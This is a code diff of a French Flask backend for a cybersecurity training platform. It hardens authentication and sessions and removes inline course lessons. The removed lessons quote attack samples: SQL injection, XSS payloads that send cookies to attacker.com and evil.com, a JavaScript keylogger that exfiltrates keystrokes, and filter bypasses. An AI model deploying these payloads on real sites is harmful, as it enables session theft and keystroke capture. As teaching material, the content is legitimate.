@@ -1,19 +1,30 @@
-from flask import Flask, request, jsonify
+from flask import Flask, request, jsonify, Response, stream_with_context, g
 from flask_cors import CORS
 from flask_socketio import SocketIO, emit, join_room, leave_room
 import json
 import os
 from datetime import datetime
-import hashlib
-import secrets
-import hashlib
 from game_rooms import room_manager
 from labs_manager import start_lab
+from passwords import PasswordHasher, HasherBusy
+from progress_sync import ProgressSync
+from auth import Authenticator
+from ratelimit import RateLimiter
+from content_store import ModuleStore
+from quest_catalog import QuestCatalog
+from quest_pack import QuestPack
+import http_cache
+from markdown_render import RenderCache, plain_text
+from search_index import SearchIndex
+from grading import GradingEngine, MAX_GRADE_BATCH
+from sessions import SessionStore, SignedSessionStore
 import database as db
 
 
 app = Flask(__name__)
-app.config['SECRET_KEY'] = 'cyberforge-secret-key-2024'
+# Clé publique (versionnée) : acceptable pour le mode de sessions par défaut, jamais pour le mode signé
+DEFAULT_SECRET_KEY = 'cyberforge-secret-key-2024'
+app.config['SECRET_KEY'] = os.environ.get('CYBERFORGE_SECRET_KEY') or DEFAULT_SECRET_KEY
 # CORS pour permettre les connexions depuis n'importe quel PC du réseau local
 CORS(app, origins="*", supports_credentials=True)
 
@@ -24,20 +35,47 @@ socketio = SocketIO(
     async_mode='threading'
 )
 
-# Helper function to hash passwords
-def hash_password(password):
-    return hashlib.sha256(password.encode()).hexdigest()
+# Hachage PBKDF2 sur un pool de threads dédié et borné
+password_hasher = PasswordHasher()
 
-# Sessions en mémoire (tokens)
-sessions_db = {}
+def hasher_busy_response():
+    """Réponse 503 quand le pool de hachage est saturé"""
+    response = jsonify({"error": "Server busy, please retry"})
+    response.headers['Retry-After'] = '1'
+    return response, 503
+
+# Nombre max de voisins renvoyés de chaque côté par /api/leaderboard/around
+MAX_LEADERBOARD_RADIUS = 50
 
 print("🗄️ Utilisation de la base de données SQLite")
+db.init_db()
+
+# Sessions (tokens) avec expiration ; persistées en SQLite sauf si
+# CYBERFORGE_PERSIST_SESSIONS=0, pour survivre à un redémarrage.
+# CYBERFORGE_SESSION_MODE=signed : tokens signés avec SECRET_KEY, vérifiables
+# par n'importe quel processus (plusieurs workers derrière un répartiteur).
+# Le statut admin est dans le token : ce mode exige une clé secrète propre au
+# déploiement (CYBERFORGE_SECRET_KEY), sinon n'importe qui pourrait en signer.
+PERSIST_SESSIONS = os.environ.get('CYBERFORGE_PERSIST_SESSIONS', '1') != '0'
+SESSION_MODE = os.environ.get('CYBERFORGE_SESSION_MODE', 'store')
+if SESSION_MODE == 'signed':
+    if app.config['SECRET_KEY'] == DEFAULT_SECRET_KEY:
+        raise SystemExit("❌ [SESSIONS] CYBERFORGE_SESSION_MODE=signed exige CYBERFORGE_SECRET_KEY "
+                         "(clé secrète différente de la clé par défaut) ; démarrage refusé")
+    print("🔐 [SESSIONS] Mode signé, clé lue depuis CYBERFORGE_SECRET_KEY")
+    sessions = SignedSessionStore(app.config['SECRET_KEY'], persistence=db if PERSIST_SESSIONS else None)
+else:
+    sessions = SessionStore(persistence=db if PERSIST_SESSIONS else None)
 
 # Helper function to generate session token
-def generate_session_token(username):
-    token = hashlib.md5(f"{username}{datetime.now()}".encode()).hexdigest()
-    sessions_db[token] = username
-    return token
+def generate_session_token(username, is_admin=False):
+    return sessions.create(username, is_admin=is_admin)
+
+# Décorateurs d'authentification (utilisateur dans flask.g, chargé une fois par requête)
+auth = Authenticator(sessions, db.get_user_by_username)
+
+# Limitation de débit par IP et par utilisateur (CYBERFORGE_RATE_LIMIT=0 pour désactiver)
+rate_limiter = RateLimiter(sessions)
 
 @app.route('/')
 def home():
@@ -48,6 +86,7 @@ def home():
     })
 
 @app.route('/api/register', methods=['POST'])
+@rate_limiter.limit('register')
 def register():
     try:
         data = request.get_json()
@@ -64,7 +103,7 @@ def register():
             return jsonify({"error": "Username already exists"}), 409
         
         # Créer l'utilisateur dans la base de données
-        hashed_password = hash_password(password)
+        hashed_password = password_hasher.hash(password)
         if not db.create_user(username, email, hashed_password):
             return jsonify({"error": "Failed to create user"}), 500
         
@@ -84,11 +123,14 @@ def register():
             }
         }), 201
         
+    except HasherBusy:
+        return hasher_busy_response()
     except Exception as e:
         print(f"❌ [REGISTER] Erreur: {e}")
         return jsonify({"error": str(e)}), 500
 
 @app.route('/api/login', methods=['POST'])
+@rate_limiter.limit('login')
 def login():
     try:
         data = request.get_json()
@@ -103,12 +145,15 @@ def login():
         if not user:
             return jsonify({"error": "Invalid credentials"}), 401
         
-        # Vérifier le mot de passe
-        if user["password"] != hash_password(password):
+        # Vérifier le mot de passe (les anciennes empreintes SHA-256 sont remplacées)
+        valid, upgraded_hash = password_hasher.verify(password, user["password"])
+        if not valid:
             return jsonify({"error": "Invalid credentials"}), 401
+        if upgraded_hash:
+            db.update_password(username, upgraded_hash)
         
         # Générer un token de session
-        token = generate_session_token(username)
+        token = generate_session_token(username, is_admin=bool(user.get("is_admin", 0)))
         
         return jsonify({
             "message": "Login successful",
@@ -122,1175 +167,224 @@ def login():
             }
         }), 200
         
+    except HasherBusy:
+        return hasher_busy_response()
     except Exception as e:
         print(f"❌ [LOGIN] Erreur: {e}")
         return jsonify({"error": str(e)}), 500
 
-# Module data
-modules_data = {
-    "web_security": {
-        "id": "web_security",
-        "title": "Sécurité Web",
-        "description": "Apprenez les bases de la sécurité web et les vulnérabilités communes",
-        "icon": "🌐",
-        "difficulty": "Débutant",
-        "duration": "45 min",
-        "lessons": [
-            {
-                "id": 1,
-                "title": "Introduction à la sécurité web",
-                "content": """
-# Introduction à la Sécurité Web
-
-La sécurité web représente l'ensemble des mesures et pratiques mises en place pour protéger les applications web, les serveurs et les données qu'ils traitent contre diverses menaces cybernétiques. Dans notre monde de plus en plus connecté, où les entreprises dépendent massivement de leurs infrastructures numériques, maîtriser ces concepts devient essentiel pour tout professionnel de l'informatique.
-
-## 🌐 Évolution du paysage des menaces
-
-### L'explosion du web moderne et sa complexification
-Depuis les années 2000, nous avons assisté à une transformation radicale du web qui a fondamentalement changé le paysage de la sécurité informatique. Cette évolution représente à la fois des opportunités extraordinaires et des défis sécuritaires majeurs.
-
-**Transformation architecturale :**
-Le passage des sites web statiques aux applications web dynamiques a créé une surface d'attaque exponentiellement plus large. Là où nous avions autrefois de simples pages HTML servies par des serveurs web basiques, nous avons maintenant des écosystèmes complexes intégrant :
-
-- **Technologies frontend modernes** : React, Angular, Vue.js permettent des interfaces utilisateur riches avec interactions temps réel, WebSockets, et APIs JavaScript nombreuses. Chaque bibliothèque introduit ses propres vulnérabilités potentielles.
-
-- **APIs REST et GraphQL** : La communication entre services distribués expose de multiples endpoints d'API, chacun représentant un point d'entrée potentiel pour les attaquants. Les API GraphQL, bien qu'efficaces, introduisent des risques spécifiques comme les attaques par requêtes complexes.
-
-- **Architecture microservices** : La décomposition des monolithes en microservices distribués augmente considérablement la surface d'attaque. Chaque service peut avoir ses propres vulnérabilités, et la communication inter-services crée de nouveaux vecteurs d'attaque.
-
-- **Cloud computing et conteneurisation** : Le déplacement vers AWS, Azure, GCP et l'adoption de Docker/Kubernetes introduisent des modèles de sécurité partagée où la responsabilité est répartie entre fournisseur et client.
-
-- **IoT et écosystème mobile** : L'explosion des objets connectés (50 milliards d'appareils IoT prévus en 2030) et des applications mobiles multiplie les points d'entrée dans les systèmes d'information.
-
-### Impact économique et social des cyberattaques
-
-**Statistiques alarmantes 2023-2024 :**
-Les dernières études révèlent l'ampleur critique du défi cybersécurité :
-
-- **Coût moyen d'une violation de données** : 4.45 millions USD (IBM Security Report 2023)
-- **Temps de détection moyen** : 287 jours pour identifier une intrusion
-- **Temps de confinement moyen** : 80 jours supplémentaires pour éliminer la menace
-- **93% des attaques réussies** exploitent des vulnérabilités web connues depuis plus de 2 ans
-- **1 entreprise sur 3** subit une attaque majeure chaque année
-- **Croissance des ransomwares** : +41% en 2023 avec un coût moyen de 5.13 millions USD
-
-**Secteurs les plus touchés :**
-1. **Santé** : 10.93 millions USD de coût moyen (dossiers médicaux sensibles)
-2. **Services financiers** : 5.9 millions USD (données bancaires critiques)
-3. **Énergie** : 5.05 millions USD (infrastructures critiques)
-4. **Technologie** : 4.97 millions USD (propriété intellectuelle)
-5. **Éducation** : 3.65 millions USD (données étudiantes et recherche)
-
-### Évolution des techniques d'attaque
-
-**Sophistication croissante des menaces :**
-
-**APT (Advanced Persistent Threats) :**
-Les groupes d'attaquants étatiques et criminels développent des campagnes multi-étapes sur plusieurs mois :
-- **Lazarus Group** (Corée du Nord) : Attaques financières de plusieurs millions
-- **APT29/Cozy Bear** (Russie) : Espionnage gouvernemental et technologique
-- **APT1/Comment Crew** (Chine) : Vol de propriété intellectuelle industrielle
-
-**Supply Chain Attacks (Attaques de la chaîne logicielle) :**
-- **SolarWinds (2020)** : 18,000 organisations compromises via une mise à jour logicielle
-- **Kaseya (2021)** : 1,500 entreprises affectées par ransomware via MSP
-- **CodeCov (2021)** : Outils de développement compromis affectant des milliers de projets
-
-**Living Off The Land (LotL) :**
-Utilisation d'outils légitimes du système pour les attaques :
-- PowerShell, WMI, certutil sur Windows
-- bash, curl, ssh sur Linux
-- Scripts Python et JavaScript natifs
-
-### Nouveaux vecteurs d'attaque émergents
-
-**Cloud Security Challenges :**
-- **Misconfiguration** : 68% des incidents cloud dus à des erreurs de configuration
-- **Identity and Access Management** : Compromission de comptes cloud privilégiés
-- **Container Security** : Vulnérabilités dans Docker, Kubernetes
-- **Serverless Security** : Nouveaux défis avec AWS Lambda, Azure Functions
-
-**AI et Machine Learning Security :**
-- **Model Poisoning** : Corruption des données d'entraînement IA
-- **Adversarial Attacks** : Manipulation des inputs pour tromper les modèles
-- **Data Privacy** : Extraction d'informations sensibles des modèles ML
-
-**5G et Edge Computing :**
-- **Network Slicing Security** : Isolation des tranches réseau 5G
-- **Edge Device Security** : Sécurisation des dispositifs en périphérie
-- **Latency-Critical Security** : Sécurité temps réel pour applications critiques
-
-### Réglementation et compliance en évolution
-
-**RGPD et évolutions :**
-- Amendes record : 1.2 milliards EUR pour Meta (2023)
-- Extension géographique : Effet extraterritorial mondial
-- Nouveaux droits : Droit à la portabilité, droit à l'oubli
-
-**Cybersecurity Act (EU) :**
-- Certification obligatoire pour produits IoT
-- Standards de cybersécurité harmonisés
-- Sanctions renforcées pour non-conformité
-
-**Executive Order 14028 (US) :**
-- Zero Trust Architecture obligatoire pour agences fédérales
-- Software Bill of Materials (SBOM) requis
-- Incident reporting mandataire sous 72h
-
-Cette transformation continue du paysage numérique nécessite une adaptation permanente des stratégies de sécurité et une formation continue des professionnels.
-
-## 🔐 Concepts fondamentaux de sécurité
-
-### 1. La triade CIA (Confidentialité, Intégrité, Disponibilité)
-
-**Confidentialité** : Garantir que seules les personnes autorisées accèdent aux informations
-- Chiffrement des données en transit (HTTPS/TLS)
-- Chiffrement des données au repos (AES, bases de données chiffrées)
-- Contrôle d'accès granulaire (RBAC, ABAC)
-- Anonymisation et pseudonymisation des données personnelles
-
-**Intégrité** : Assurer que les données ne sont pas altérées de manière non autorisée
-- Signatures numériques et certificats
-- Hachage cryptographique (SHA-256, SHA-3)
-- Contrôles de somme et checksums
-- Journalisation des modifications (audit trails)
-
-**Disponibilité** : Maintenir l'accès aux services pour les utilisateurs légitimes
-- Redondance et haute disponibilité
-- Protection contre les attaques DDoS
-- Plans de continuité d'activité
-- Monitoring et alertes temps réel
-
-### 2. Authentification vs Autorisation - Approfondissement
-
-**Authentification multifacteur (MFA)**
-- **Facteur 1** : Quelque chose que vous savez (mot de passe)
-- **Facteur 2** : Quelque chose que vous avez (smartphone, token)
-- **Facteur 3** : Quelque chose que vous êtes (biométrie)
-
-**Protocoles modernes d'authentification**
-- **OAuth 2.0** : Délégation d'autorisation sécurisée
-- **OpenID Connect** : Couche d'identité sur OAuth 2.0
-- **SAML** : Échange d'informations d'authentification
-- **JWT** : Tokens compacts pour les APIs
-
-### 3. OWASP Top 10 - Analyse détaillée
-
-**A01:2021 - Broken Access Control (Nouveau #1)**
-Cette catégorie grimpe de la 5ème à la 1ère place. Elle inclut :
-- Violation du principe de privilège minimum
-- Contournement des contrôles d'accès par modification d'URL
-- Accès non autorisé aux APIs
-- Élévation de privilèges (agir en tant qu'admin sans autorisation)
-
-**A02:2021 - Cryptographic Failures**
-Anciennement "Sensitive Data Exposure", cette catégorie couvre :
-- Transmission de données en clair (HTTP au lieu de HTTPS)
-- Utilisation d'algorithmes cryptographiques obsolètes (MD5, SHA-1, DES)
-- Stockage de mots de passe en clair ou avec des hachages faibles
-- Absence de validation de certificats
-
-**A03:2021 - Injection**
-Toujours dans le top 3, incluant :
-- SQL Injection (union-based, blind, time-based)
-- NoSQL Injection (MongoDB, CouchDB)
-- LDAP Injection
-- OS Command Injection
-- Code Injection (PHP, Python, etc.)
-
-### 4. Architecture de sécurité moderne
-
-**Principe de Zero Trust**
-- "Ne jamais faire confiance, toujours vérifier"
-- Vérification continue de l'identité et des autorisations
-- Microsegmentation du réseau
-- Chiffrement end-to-end
-
-**Security by Design**
-- Intégration de la sécurité dès la conception
-- Threat modeling et analyse de risques
-- Secure coding practices
-- Tests de sécurité automatisés (SAST, DAST)
-
-**Défense en profondeur (Defense in Depth)**
-```
-Internet → WAF → Load Balancer → Web Server → App Server → Database
-    ↓         ↓          ↓           ↓           ↓          ↓
-  Firewall  IDS/IPS   SSL/TLS    Input Valid.  RBAC    Encryption
-```
-
-## 🛡️ Technologies et outils essentiels
-
-### Web Application Firewalls (WAF)
-- **ModSecurity** : WAF open-source avec règles OWASP
-- **Cloudflare** : Protection distribuée contre les attaques
-- **AWS WAF** : Service managé intégré à l'infrastructure cloud
-- **F5 BIG-IP** : Solution entreprise avec IA pour détection d'anomalies
-
-### Outils de scanning et d'audit
-- **OWASP ZAP** : Proxy d'interception et scanner automatisé
-- **Burp Suite** : Plateforme complète de tests d'intrusion web
-- **Nikto** : Scanner de vulnérabilités web en ligne de commande
-- **Nessus** : Scanner commercial avec base de données CVE étendue
-
-### Frameworks de développement sécurisé
-- **Spring Security** (Java) : Authentification et autorisation robustes
-- **Django Security** (Python) : Protection CSRF, XSS intégrée
-- **Helmet.js** (Node.js) : Headers de sécurité automatiques
-- **OWASP ESAPI** : Bibliothèque de sécurité multi-langages
-
-## 📊 Métriques et indicateurs de sécurité
-
-### KPIs de sécurité web
-- **MTTD** (Mean Time To Detect) : Temps moyen de détection
-- **MTTR** (Mean Time To Respond) : Temps moyen de réponse
-- **Vulnerability Density** : Nombre de vulnérabilités par ligne de code
-- **Security Test Coverage** : Pourcentage de code testé pour la sécurité
-
-### Compliance et standards
-- **PCI DSS** : Standard pour le traitement des cartes de paiement
-- **GDPR/RGPD** : Protection des données personnelles en Europe
-- **ISO 27001** : Système de management de la sécurité
-- **SOX** : Loi américaine sur la transparence financière
-"""
-            },
-            {
-                "id": 2,
-                "title": "Injection SQL - Comprendre et prévenir",
-                "content": """
-# Injection SQL - La vulnérabilité n°1
-
-L'injection SQL reste la vulnérabilité web la plus critique selon l'OWASP Top 10. Elle permet aux attaquants d'exécuter du code SQL arbitraire sur votre base de données.
-
-## 🎯 Comment fonctionne une injection SQL ?
-
-### Exemple concret d'attaque :
-```sql
--- Requête normale d'authentification
-SELECT * FROM users WHERE username = 'admin' AND password = 'motdepasse';
-
--- Injection malveillante dans le champ username
-Username: admin'; DROP TABLE users; --
-Password: anything
-
--- Requête résultante (DANGEREUSE!)
-SELECT * FROM users WHERE username = 'admin'; DROP TABLE users; --' AND password = 'anything';
-```
-
-### Types d'injections courantes :
-1. **Union-based** : Récupérer des données d'autres tables
-2. **Boolean-based** : Extraire des informations via des tests vrai/faux
-3. **Time-based** : Utiliser des délais pour extraire des données
-4. **Error-based** : Exploiter les messages d'erreur
-
-## 🛡️ Techniques de prévention avancées
-
-### 1. Requêtes préparées (Prepared Statements)
-```python
-# ✅ SÉCURISÉ - Utilisation de paramètres
-cursor.execute(
-    "SELECT * FROM users WHERE username = %s AND password = %s", 
-    (username, hashed_password)
-)
-
-# ❌ VULNÉRABLE - Concaténation de chaînes
-query = f"SELECT * FROM users WHERE username = '{username}'"
-cursor.execute(query)
-```
-
-### 2. Procédures stockées sécurisées
-```sql
-DELIMITER //
-CREATE PROCEDURE GetUser(IN username VARCHAR(50))
-BEGIN
-    SELECT * FROM users WHERE username = username;
-END //
-DELIMITER ;
-```
-
-### 3. Validation et filtrage strict
-- **Whitelist** : Autoriser uniquement les caractères attendus
-- **Longueur** : Limiter la taille des entrées
-- **Type** : Vérifier le type de données
-- **Échappement** : Neutraliser les caractères spéciaux
-
-### 4. Principe du moindre privilège
-- Comptes base de données dédiés avec droits minimaux
-- Jamais de connexion admin pour l'application
-- Séparation des environnements (dev/test/prod)
-
-### 5. Détection et monitoring
-- Logs d'accès et d'erreurs détaillés
-- Alertes sur les tentatives d'injection
-- WAF (Web Application Firewall)
-- Tests de sécurité automatisés
-
-## ⚡ Outils de test et détection
-
-### Outils automatisés :
-- **SQLMap** : Scanner d'injection SQL
-- **Burp Suite** : Proxy d'interception
-- **OWASP ZAP** : Scanner de vulnérabilités
-- **Nessus** : Scanner réseau et web
-
-### Tests manuels :
-- Injection de caractères spéciaux (' " ; --)
-- Tentatives d'union (UNION SELECT)
-- Tests de délais (WAITFOR DELAY)
-- Extraction de métadonnées
-
-## 📊 Impact et statistiques
-
-- **92%** des applications web testées sont vulnérables
-- **Coût moyen** d'une faille SQL : 3.8M€
-- **Temps de découverte** moyen : 196 jours
-- **CVSS Score** : Généralement 8.0-10.0 (Critique)
-"""
-            },
-            {
-                "id": 3,
-                "title": "Cross-Site Scripting (XSS) - Attaques et défenses",
-                "content": """
-# Cross-Site Scripting (XSS)
-
-XSS permet d'injecter du code JavaScript malveillant dans des pages web, affectant les utilisateurs qui visitent ces pages.
-
-## 🎯 Types de XSS
-
-### 1. XSS Réfléchi (Reflected)
-```html
-<!-- URL malveillante -->
-https://site.com/search?q=<script>alert('XSS')</script>
-
-<!-- Page affiche directement le paramètre -->
-<div>Résultats pour : <script>alert('XSS')</script></div>
-```
-
-### 2. XSS Stocké (Stored) 
-```html
-<!-- Commentaire malveillant stocké en base -->
-<script>
-document.location='http://attacker.com/steal.php?cookie='+document.cookie
-</script>
-```
-
-### 3. XSS DOM
-```javascript
-// Code JavaScript vulnérable
-document.getElementById('output').innerHTML = location.hash;
-
-// URL d'attaque
-https://site.com/page.html#<img src=x onerror=alert('XSS')>
-```
-
-## 🛡️ Méthodes de prévention
-
-### 1. Encodage contextuel
-```javascript
-// Encodage HTML
-function escapeHtml(text) {
-    return text
-        .replace(/&/g, "&amp;")
-        .replace(/</g, "&lt;")
-        .replace(/>/g, "&gt;")
-        .replace(/"/g, "&quot;")
-        .replace(/'/g, "&#x27;");
-}
-```
-
-### 2. Content Security Policy (CSP)
-```html
-<meta http-equiv="Content-Security-Policy" 
-      content="default-src 'self'; script-src 'self' 'unsafe-inline'">
-```
-
-### 3. Validation côté serveur
-```python
-import re
-
-def sanitize_input(user_input):
-    # Supprimer les balises script
-    pattern = re.compile(r'<script.*?</script>', re.IGNORECASE | re.DOTALL)
-    return pattern.sub('', user_input)
-```
-
-### 4. Bibliothèques de sécurité
-- **DOMPurify** (JavaScript)
-- **OWASP Java Encoder**
-- **AntiXSS Library** (.NET)
-- **Bleach** (Python)
-
-## ⚡ Techniques d'exploitation avancées
-
-### Bypass de filtres :
-```javascript
-// Contournement de filtres basiques
-<img src=javascript:alert('XSS')>
-<svg onload=alert('XSS')>
-<iframe src="data:text/html,<script>alert('XSS')</script>">
-```
-
-### Vol de cookies :
-```javascript
-new Image().src = 'http://evil.com/steal.php?c=' + document.cookie;
-```
-
-### Keylogger JavaScript :
-```javascript
-document.onkeypress = function(e) {
-    new Image().src = 'http://evil.com/log.php?key=' + String.fromCharCode(e.which);
-}
-```
-"""
-            }
-        ]
-    },
-    "cryptography": {
-        "id": "cryptography",
-        "title": "Cryptographie",
-        "description": "Maîtrisez les concepts fondamentaux de la cryptographie moderne",
-        "icon": "🔐",
-        "difficulty": "Intermédiaire",
-        "duration": "60 min",
-        "lessons": [
-            {
-                "id": 1,
-                "title": "Fondements mathématiques de la cryptographie",
-                "content": """
-# Fondements mathématiques de la cryptographie
-
-La cryptographie moderne repose sur des bases mathématiques solides. Comprendre ces concepts est essentiel pour maîtriser les algorithmes de chiffrement et leurs applications pratiques.
-
-## 🔢 Arithmétique modulaire - Le cœur de la crypto
-
-### Concepts fondamentaux
-L'arithmétique modulaire est omniprésente en cryptographie. Elle permet de travailler avec des nombres dans un espace fini.
-
-**Définition formelle :**
-```
-a ≡ b (mod n) signifie que a et b ont le même reste quand divisés par n
-```
-
-**Exemples pratiques :**
-- 17 ≡ 2 (mod 5) car 17 = 3×5 + 2 et 2 = 0×5 + 2
-- 100 ≡ 4 (mod 8) car 100 = 12×8 + 4
-
-### Applications cryptographiques
-- **RSA** : Utilise l'arithmétique modulo n = p×q
-- **Diffie-Hellman** : Basé sur l'exponentiation modulaire
-- **AES** : Operations dans GF(2^8) - corps de Galois
-
-## 🔐 Cryptographie symétrique moderne
-
-### Architecture des chiffrements par blocs
-
-**Structure de Feistel (DES legacy) :**
-```
-Texte clair (64 bits)
-    ↓
-Permutation initiale
-    ↓
-16 tours de Feistel
-    ↓
-Permutation finale
-    ↓
-Texte chiffré (64 bits)
-```
-
-**Réseau de substitution-permutation (AES) :**
-```
-État initial (128 bits)
-    ↓
-SubBytes (substitution)
-    ↓
-ShiftRows (permutation)
-    ↓
-MixColumns (diffusion)
-    ↓
-AddRoundKey (XOR avec clé)
-    ↓
-Répéter 10/12/14 tours selon la taille de clé
-```
-
-### AES - Advanced Encryption Standard
-
-**Détails techniques :**
-- **Tailles de clé** : 128, 192, 256 bits
-- **Taille de bloc** : 128 bits fixe
-- **Tours** : 10 (128-bit), 12 (192-bit), 14 (256-bit)
-- **Résistance** : Aucune attaque pratique connue
-
-**Modes opératoires critiques :**
-```
-ECB (Electronic Codebook) - ❌ DANGEREUX
-└─ Patterns visibles, même texte → même chiffré
-
-CBC (Cipher Block Chaining) - ✅ Standard
-└─ C[i] = E(P[i] ⊕ C[i-1]) avec IV aléatoire
-
-GCM (Galois/Counter Mode) - ✅ Recommandé
-└─ Chiffrement + authentification intégrée
-```
-
-### Gestion des clés - Le défi central
-
-**Dérivation de clés (KDF) :**
-```python
-# PBKDF2 - Standard industriel
-import hashlib
-import os
-
-def pbkdf2_sha256(password, salt, iterations=100000):
-    return hashlib.pbkdf2_hmac('sha256', password, salt, iterations)
-
-# Exemple d'usage sécurisé
-password = "user_password".encode()
-salt = os.urandom(32)  # 256 bits de sel aléatoire
-derived_key = pbkdf2_sha256(password, salt, 100000)
-```
-
-**Hiérarchie de clés d'entreprise :**
-```
-Clé maîtresse (HSM sécurisé)
-    ↓
-Clés d'environnement (Prod/Test/Dev)
-    ↓
-Clés d'application (par service)
-    ↓
-Clés de session (temporaires)
-```
-
-## 🔑 Cryptographie asymétrique - La révolution
-
-### RSA - Rivest-Shamir-Adleman
-
-**Principe mathématique :**
-Basé sur la difficulté de factoriser de grands nombres semi-premiers.
-
-**Génération de clés :**
-```
-1. Choisir p, q premiers (1024+ bits chacun)
-2. Calculer n = p × q
-3. Calculer φ(n) = (p-1)(q-1)
-4. Choisir e tel que gcd(e, φ(n)) = 1 (souvent 65537)
-5. Calculer d ≡ e^(-1) (mod φ(n))
-
-Clé publique : (n, e)
-Clé privée : (n, d)
-```
-
-**Limites et vulnérabilités :**
-- **Taille de clé** : Minimum 2048 bits recommandé (2023)
-- **Attaques** : Factorisation, timing attacks, fault attacks
-- **Quantum** : Vulnérable à l'algorithme de Shor
-
-### Cryptographie sur courbes elliptiques (ECC)
-
-**Avantages mathématiques :**
-- **Efficacité** : 256-bit ECC ≡ 3072-bit RSA en sécurité
-- **Performance** : Calculs plus rapides
-- **Économie** : Moins de bande passante et stockage
-
-**Courbes standardisées :**
-```
-NIST P-256 (secp256r1) - Largement supporté
-Curve25519 - Optimisé pour la performance
-Ed25519 - Signatures numériques rapides
-SECP256K1 - Bitcoin et blockchain
-```
-
-### Échange de clés Diffie-Hellman
-
-**Protocole classique :**
-```
-Alice choisit a (privé), calcule A = g^a mod p (public)
-Bob choisit b (privé), calcule B = g^b mod p (public)
-
-Échange de A et B
-
-Alice calcule : s = B^a mod p
-Bob calcule : s = A^b mod p
-└─ s identique = clé partagée secrète
-```
-
-**Variante moderne ECDH :**
-Plus efficace, utilise les courbes elliptiques pour l'échange.
-
-## 🛡️ Fonctions de hachage cryptographiques
-
-### Propriétés essentielles
-
-**Résistance aux collisions :**
-- **Faible** : Difficile de trouver x tel que H(x) = h donné
-- **Forte** : Difficile de trouver x,y tels que H(x) = H(y)
-
-**Effet avalanche :**
-Changement d'un bit → modification de ~50% des bits de sortie
-
-### SHA-3 - La nouvelle génération
-
-**Construction Keccak :**
-```
-Absorption → Permutation → Compression → Essorage
-
-Sponge Construction:
-- Absorber l'entrée par blocs
-- Appliquer fonction de permutation f
-- Extraire la sortie désirée
-```
-
-**Avantages sur SHA-2 :**
-- Structure différente (pas Merkle-Damgård)
-- Résistant aux attaques par extension de longueur
-- Flexibilité dans les tailles de sortie
-
-## 🔒 Applications pratiques modernes
-
-### TLS/SSL - Sécurisation des communications
-
-**Handshake TLS 1.3 simplifié :**
-```
-Client → ServerHello + Certificate + Finished
-Server → Certificate + Finished
-
-Négociation :
-- Version TLS
-- Suite cryptographique
-- Certificats X.509
-- Clés de session éphémères
-```
-
-**Suites cryptographiques recommandées 2024 :**
-```
-TLS_AES_256_GCM_SHA384 - AES-256 + authentification
-TLS_CHACHA20_POLY1305_SHA256 - Alternative mobile
-TLS_AES_128_GCM_SHA256 - Performance optimisée
-```
-
-### Blockchain et signatures numériques
-
-**ECDSA pour Bitcoin :**
-```python
-# Signature simplifiée
-def sign_transaction(private_key, transaction_hash):
-    # k doit être aléatoire et unique pour chaque signature
-    k = generate_random_nonce()
-    r = (k * G).x % n
-    s = (private_key * transaction_hash + k * r) * modinv(k, n) % n
-    return (r, s)
-```
-
-**Problèmes de sécurité courants :**
-- Réutilisation de nonce k → récupération clé privée
-- Faible entropie → attaques par force brute
-- Side-channel attacks → fuites timing
-
-### Cryptographie post-quantique
-
-**Enjeux de l'informatique quantique :**
-- **Algorithme de Shor** : Factorisation polynomiale
-- **Grover** : Recherche dans base non-structurée (√n)
-- **Impact** : RSA, ECDSA obsolètes
-
-**Alternatives en développement :**
-```
-Kyber - Échange de clés (lattices)
-Dilithium - Signatures (lattices)  
-SPHINCS+ - Signatures (hash-based)
-BIKE - Chiffrement (codes correcteurs)
-```
-
-## 📊 Métriques de sécurité
-
-### Estimation de la force cryptographique
-
-**Équivalences sécuritaires (bits de sécurité) :**
-```
-RSA-1024    → ~80 bits  (CASSÉ)
-RSA-2048    → ~112 bits (minimum actuel)
-RSA-3072    → ~128 bits (recommandé 2030+)
-ECC P-256   → ~128 bits
-AES-128     → 128 bits
-SHA-256     → 128 bits (collision), 256 bits (préimage)
-```
-
-Cette base solide vous prépare aux défis cryptographiques modernes !
-"""
-            },
-            {
-                "id": 2,
-                "title": "Implémentation sécurisée et attaques pratiques",
-                "content": """
-# Implémentation sécurisée et attaques pratiques
-
-Même les algorithmes cryptographiques les plus robustes peuvent être vulnérables si mal implémentés. Cette section explore les pièges courants et les bonnes pratiques.
-
-## ⚠️ Vulnérabilités d'implémentation communes
-
-### Attaques par canaux auxiliaires (Side-Channel)
-
-**Timing attacks - Le fléau du développeur :**
-```python
-# ❌ VULNÉRABLE - Comparaison variable dans le temps
-def verify_hmac_vulnerable(message, signature, secret):
-    expected = hmac.new(secret, message, hashlib.sha256).hexdigest()
-    # Arrêt dès la première différence = timing leak
-    return signature == expected
-
-# ✅ SÉCURISÉ - Comparaison à temps constant
-def verify_hmac_secure(message, signature, secret):
-    expected = hmac.new(secret, message, hashlib.sha256).hexdigest()
-    # Comparaison de tous les bytes, même en cas de différence
-    return hmac.compare_digest(signature, expected)
-```
-
-**Analyse de consommation (Power Analysis) :**
-Les variations de consommation électrique révèlent les opérations :
-- **Simple Power Analysis (SPA)** : Observation directe
-- **Differential Power Analysis (DPA)** : Analyse statistique
-- **Correlation Power Analysis (CPA)** : Modèle de fuite
-
-**Contremesures matérielles :**
-- Masquage algorithmique (Boolean/Arithmetic masking)
-- Randomisation temporelle
-- Dual-rail logic pour consommation constante
-
-### Attaques par fautes (Fault Injection)
-
-**Principes d'exploitation :**
-```
-Injection laser → Modification bit registre → Calcul erroné → Fuite cryptographique
-```
-
-**Exemple RSA-CRT fault attack :**
-```python
-# Si une seule signature mod p ou mod q est fautée
-# L'attaquant peut factoriser n et récupérer la clé privée
-def exploit_rsa_crt_fault(n, message, correct_sig, faulty_sig):
-    diff = correct_sig - faulty_sig
-    # Si fault sur p : gcd(diff, n) révèle p
-    p = math.gcd(diff, n)
-    if 1 < p < n:
-        q = n // p
-        return (p, q)  # Clé privée compromise !
-```
-
-## 🔐 Générateurs de nombres aléatoires
-
-### Entropie - La source de toute sécurité
-
-**Sources d'entropie système :**
-```python
-import secrets  # Python 3.6+ - CSPRNG sécurisé
-
-# ✅ CORRECT - Sources système sécurisées
-secure_key = secrets.token_bytes(32)  # 256 bits
-secure_int = secrets.randbelow(1000)
-
-# ❌ DANGEREUX - Générateur pseudoaléatoire prévisible
-import random
-weak_key = random.getrandbits(256)  # PRÉVISIBLE !
-```
-
-**Entropie insuffisante - Cas réels :**
-- **Debian OpenSSL (2008)** : PRNG mal seedé → clés SSH prévisibles
-- **Android Bitcoin (2013)** : Faible entropie → vol de bitcoins
-- **IoT devices** : Pas d'entropie hardware → clés identiques
-
-### Tests statistiques de qualité
-
-**Suite NIST SP 800-22 :**
-```
